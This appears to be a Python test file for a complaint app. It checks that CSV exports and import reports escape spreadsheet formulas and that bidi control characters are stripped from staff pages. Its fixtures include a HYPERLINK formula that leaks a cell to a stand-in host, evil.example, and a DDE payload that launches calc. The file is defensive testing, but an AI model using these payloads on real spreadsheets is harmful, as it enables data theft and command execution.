"""What the app writes out: CSV cells that a spreadsheet would run, bidi controls in names."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from core.csv_cells import csv_cell
from domain.models import Customer
from starters.csv_import import ImportReport, RowReport, write_report
from tests.ui import ledger_seed as seed
from tests.ui.conftest import signed_in

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


async def test_the_csv_export_writes_formulas_as_text(web):
    received = datetime(2026, 3, 2, 1, 30, tzinfo=UTC)
    for i, region in enumerate((FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "杭州")):
        await seed.write(web.pool, seed.view(f"C-CSV-{i}", received_at=received, region=region))
    async with signed_in(web.base_url, "zhao") as http:
        r = await http.get("/dashboard/complaints.csv?from=2026-03-01&to=2026-03-31")
    assert r.status_code == 200
    regions = [row["region"] for row in csv.DictReader(io.StringIO(r.text.lstrip("\ufeff")))]
    assert sorted(regions) == sorted(
        ["'" + FORMULA, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\t=1", "杭州"]
    )


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is():
    assert [csv_cell(v) for v in (-3, 2.5, "", "C-1", "上海", "=1")] == [-3, 2.5, "", "C-1", "上海", "'=1"]


async def test_bidi_controls_in_a_customer_name_cannot_reorder_the_staff_page(web):
    name = "张三\u202e\u2066"  # RLO + LRI: the phone number after the name would show reversed
    v = seed.view("C-BIDI", received_at=datetime.now(UTC))
    v = v.model_copy(
        update={"customer": Customer(name=name, phone="+8613812345678", locale=v.customer.locale)}
    )
    await seed.write(web.pool, v)
    async with signed_in(web.base_url, "zhang") as http:
        pages = [(await http.get(p)).text for p in ("/staff/complaints/C-BIDI", "/staff")]
    assert "+8613812345678" in pages[0] and "张三" in pages[0]
    for page in pages:
        for control in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f":
            assert control not in page


def test_the_csv_import_report_never_writes_a_formula(tmp_path):
    """`desk import-csv --report` echoes what the file said; a cell like =HYPERLINK(…) must stay text."""
    path = tmp_path / "report.csv"
    write_report(ImportReport([RowReport(row=2, error='=HYPERLINK("http://evil.example","x")')]), path)
    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1][5] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
